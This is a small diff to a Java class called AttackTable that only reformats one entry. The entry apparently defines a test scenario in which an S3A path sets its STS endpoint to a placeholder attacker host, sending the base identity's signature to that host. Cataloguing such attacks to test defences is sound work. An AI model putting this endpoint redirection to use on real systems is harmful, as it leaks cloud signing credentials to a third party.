@@ -31,7 +31,9 @@ final class AttackTable {
             .hidden()
             .reading(INSIDE)
             .choosable(),
-        routing(route("s3a://{bucket}/inside").field("stsEndpoint", "http://{attacker}"), "sends the base identity's signature to the attacker")
+        routing(
+                route("s3a://{bucket}/inside").field("stsEndpoint", "http://{attacker}"),
+                "sends the base identity's signature to the attacker")
             .hidden()
             .reading(INSIDE)
             .choosable(),
